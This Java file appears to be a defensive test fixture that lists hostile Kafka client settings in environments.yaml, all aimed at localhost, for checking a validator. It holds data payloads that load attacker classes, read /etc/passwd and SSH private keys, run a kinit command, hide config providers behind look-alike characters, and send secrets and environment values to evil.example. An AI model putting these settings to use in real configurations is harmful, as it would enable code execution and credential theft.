package org.stormspec.model.environment;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts of {@code environments.yaml} by which a stranger would have a program run, a file read, a
 * variable sent or a server contacted. Each asks for the environment {@code dev}, which reaches for
 * {@code 127.0.0.1:PORT}.
 */
public final class HostileEnvironments {

    private static final String PLAIN =
            "org.apache.kafka.common.security.plain.PlainLoginModule required";

    private static final String LOGIN =
            PLAIN + " username=\"a\" password=\"${env:STORMSPEC_TEST_PASSWORD}\"";

    private HostileEnvironments() {}

    /**
     * One text.
     *
     * @param what what it tries, in a few words
     * @param yaml the text
     */
    public record Hostile(String what, String yaml) {

        @Override
        public String toString() {
            return what;
        }
    }

    /** Returns them all, reaching for a port of this machine. */
    public static List<Hostile> reachingFor(int port) {
        String server = "127.0.0.1:" + port;
        return Stream.of(
                        classes(server),
                        providers(server),
                        logins(server),
                        values(server),
                        shapes(server),
                        addresses(server))
                .flatMap(each -> each)
                .toList();
    }

    private static Stream<Hostile> classes(String server) {
        return Stream.of(
                        "metric.reporters: org.apache.kafka.common.metrics.JmxReporter",
                        "interceptor.classes: com.example.Evil",
                        "security.providers: com.example.Evil",
                        "sasl.login.class: com.example.Evil",
                        "sasl.login.callback.handler.class: com.example.Evil",
                        "sasl.client.callback.handler.class: com.example.Evil",
                        "ssl.engine.factory.class: com.example.Evil",
                        "sasl.oauthbearer.jwt.retriever.class: com.example.Evil",
                        "sasl.oauthbearer.jwt.validator.class: com.example.Evil",
                        "sasl.oauthbearer.jwks.endpoint.url: https://evil.example",
                        "sasl.oauthbearer.assertion.file: /etc/passwd",
                        "sasl.oauthbearer.assertion.private.key.file: /root/.ssh/id_rsa",
                        "sasl.kerberos.kinit.cmd: ./build.sh",
                        "sasl.kerberos.service.name: kafka",
                        "socket.factory.class: com.example.Evil",
                        "key.serializer: com.example.Evil",
                        "partitioner.class: com.example.Evil",
                        "bootstrap.servers: evil.example:9092",
                        "bootstrap.controllers: evil.example:9093",
                        "metadata.recovery.strategy: rebootstrap",
                        "client.id: '${env:AWS_SECRET_ACCESS_KEY}'",
                        "basic.auth.user.info: me:secret",
                        "ssl.provider: evil",
                        "ssl.keymanager.algorithm: evil",
                        "enable.metrics.push: 'true'",
                        "org.apache.kafka.automatic.config.providers: evil")
                .map(setting -> client(setting.replaceFirst(":.*", ""), server, setting));
    }

    private static Stream<Hostile> providers(String server) {
        String directory =
                ".class: org.apache.kafka.common.config.provider.DirectoryConfigProvider";
        return Stream.of(
                client(
                        "a config provider",
                        server,
                        "config.providers: d",
                        "config.providers.d" + directory),
                client("a config provider in capitals", server, "CONFIG.PROVIDERS: d"),
                client("a config provider with a blank behind", server, "'config.providers ': d"),
                client("a config provider with a blank before", server, "' config.providers': d"),
                client("a config provider with a tab", server, "\"config.providers\\t\": d"),
                client(
                        "a config provider with a zero width blank",
                        server,
                        "\"config.providers\\u200b\": d"),
                client("a config provider in Cyrillic", server, "\"\\u0441onfig.providers\": d"),
                client(
                        "a provider's value in a password",
                        server,
                        "ssl.key.password: '${d:/root:x}'"),
                client(
                        "a provider's value in a type",
                        server,
                        "ssl.truststore.type: '${file:/etc/passwd:x}'"),
                client(
                        "a provider's value in a location",
                        server,
                        "ssl.truststore.location: '${directory:/root:x}'"));
    }

    private static Stream<Hostile> logins(String server) {
        return Stream.of(
                        LOGIN + "; " + LOGIN + ";",
                        LOGIN + ";; ",
                        LOGIN,
                        PLAIN
                                + " /* c */ username=\"a\" password=\"${env:STORMSPEC_TEST_PASSWORD}\";",
                        LOGIN + "; // comment",
                        "# comment " + LOGIN + ";",
                        LOGIN.replace("required", "optional") + ";",
                        LOGIN.replace("PlainLoginModule", "PlainLoginModule2") + ";",
                        LOGIN.replace("org.", "\u043erg.") + ";",
                        LOGIN + " serviceName=\"kafka\";",
                        LOGIN + " username=\"b\";",
                        LOGIN + " user_admin=\"x\";",
                        PLAIN + " username=\"a\" password=\"hunter2\";",
                        PLAIN + " username=\"a\" password=\"x${env:STORMSPEC_TEST_PASSWORD}\";",
                        PLAIN
                                + " username=\"${env:HOME}\" password=\"${env:STORMSPEC_TEST_PASSWORD}\";",
                        PLAIN + " username=\"a\" password=\"${env:AWS_SECRET_ACCESS_KEY}\";",
                        PLAIN + " username=\"a\" password=\"${file:/etc/passwd:x}\";",
                        PLAIN + " username=\"a\\012\" password=\"${env:STORMSPEC_TEST_PASSWORD}\";",
                        PLAIN + ";",
                        "com.sun.security.auth.module.Krb5LoginModule required useTicketCache=true;",
                        "com.sun.security.auth.module.JndiLoginModule required;",
                        "com.sun.security.auth.module.KeyStoreLoginModule required"
                                + " keyStoreURL=\"file:/root/x\";",
                        "com.example.Evil required username=\"a\" password=\"b\";",
                        "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required"
                                + " unsecuredLoginStringClaim_sub=\"admin\";",
                        "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required"
                                + " clientId=\"a\" clientSecret=\"${env:STORMSPEC_TEST_PASSWORD}\""
                                + " ssl.keystore.location=\"/etc/passwd\";",
                        "${env:HOME}",
                        "${env:STORMSPEC_A}${env:STORMSPEC_B}",
                        "")
                .map(login ->
                        client("the login " + login, server, "sasl.jaas.config: " + quoted(login)));
    }

    private static Stream<Hostile> values(String server) {
        return Stream.of(
                        "security.protocol: SASL_PLAINTEXT ",
                        "sasl.mechanism: GSSAPI",
                        "sasl.mechanism: plain",
                        "sasl.jaas.config: \"" + PLAIN + "\\nusername='a' password='b';\"",
                        "sasl.jaas.config: \"" + PLAIN + "\\u2028username='a';\"",
                        "sasl.oauthbearer.token.endpoint.url: file:///etc/passwd",
                        "sasl.oauthbearer.token.endpoint.url: jar:file:/x!/y",
                        "sasl.oauthbearer.token.endpoint.url: https://me:secret@login.example/token",
                        "schema.registry.url: 'http://127.0.0.1@evil.example'",
                        "schema.registry.url: 'http://evil.example/${env:HOME}'",
                        "ssl.key.password: hunter2",
                        "ssl.keystore.key: '-----BEGIN PRIVATE KEY----- MIIE'",
                        "ssl.truststore.password: '${env:PATH}'",
                        "ssl.truststore.certificates: /etc/passwd",
                        "ssl.truststore.type: com.example.Evil",
                        "ssl.truststore.location: \"a\\0b\"",
                        "ssl.endpoint.identification.algorithm: none",
                        "request.timeout.ms: 0x10",
                        "request.timeout.ms: -1",
                        "request.timeout.ms: 9999999999999999999",
                        "request.timeout.ms: true",
                        "request.timeout.ms: \"\\u0661\\u0660\\u0660\\u0660\"",
                        "client.dns.lookup: default")
                .map(setting -> client(setting, server, quotedBlanks(setting)));
    }

    /** Blanks at the end would be no part of a plain scalar. */
    private static String quotedBlanks(String setting) {
        return setting.endsWith(" ") ? setting.replaceFirst(": (.*)", ": '$1'") : setting;
    }

    private static Stream<Hostile> shapes(String server) {
        return Stream.of(
                client("a list", server, "sasl.mechanism: [PLAIN, GSSAPI]"),
                client("a map", server, "sasl: {mechanism: GSSAPI, jaas: {config: x}}"),
                client("a key twice", server, "sasl.mechanism: PLAIN", "sasl.mechanism: GSSAPI"),
                client("a merge key", server, "<<: {metric.reporters: x}"),
                client("a tag", server, "sasl.mechanism: !!java.net.URL 'http://127.0.0.1'"),
                client("an empty key", server, "'': x"),
                client("a key of null", server, "~: x"),
                new Hostile(
                        "no mapping",
                        "dev:\n  kind: dev\n  bootstrap: " + server + "\n  client: [a]\n"));
    }

    private static Stream<Hostile> addresses(String server) {
        return Stream.of(
                        "${env:STORMSPEC_HOST}:9092",
                        "${env:AWS_SECRET_ACCESS_KEY}." + server,
                        "me:secret@" + server,
                        "http://" + server,
                        server + "/path",
                        server + "," + server.replaceFirst(":.*", ""),
                        server + ",",
                        "," + server,
                        "127.0.0.1:0",
                        "127.0.0.1:99999",
                        "[::1%lo]:9092",
                        "127.0.0.1\\t:9092",
                        "127.0.0.1:9092\\n127.0.0.1:9093",
                        "exämple.com:9092",
                        String.join(",", Arrays.asList(server.repeat(40).split("(?<=\\d)(?=127)"))))
                .map(address ->
                        new Hostile(
                                "the address " + address,
                                "dev:\n  kind: dev\n  bootstrap: \"" + address + "\"\n"));
    }

    private static Hostile client(String what, String server, String... settings) {
        return new Hostile(
                what,
                "dev:\n  kind: dev\n  bootstrap: %s\n  client:\n    %s\n"
                        .formatted(server, String.join("\n    ", settings)));
    }

    private static String quoted(String text) {
        return "'" + text.replace("'", "''") + "'";
    }
}
